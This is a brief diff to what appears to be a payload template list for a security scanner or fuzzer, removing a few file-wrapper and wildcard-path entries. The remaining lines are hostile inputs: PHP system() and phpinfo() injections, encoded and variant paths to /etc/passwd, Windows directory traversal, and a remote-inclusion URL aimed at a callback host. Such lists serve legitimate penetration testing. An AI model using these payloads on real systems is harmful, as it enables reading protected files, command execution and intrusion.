@@ -96,12 +96,9 @@ wrapper
     file://«unix_file»
     file:///C:/«app_file»
     file://localhost«unix_file»
-    glob:///«label»/*
     compress.zlib://«unix_file»
     netdoc://«unix_file»
     jar:file:///«label»/«label».jar!/«label».class
-    view-source:file://«unix_file»
-    ogg://«label»
 php
     system('«plain_command»')
     phpinfo()
@@ -124,7 +121,6 @@ absolute
     %2f%65%74%63%2f%70%61%73%73%77%64
     /etc/./passwd
     /etc//passwd
-    /???/??ss??
     d:\«label»\..\..\«windows_file»
 remote
     http://«callback»/«label».txt?
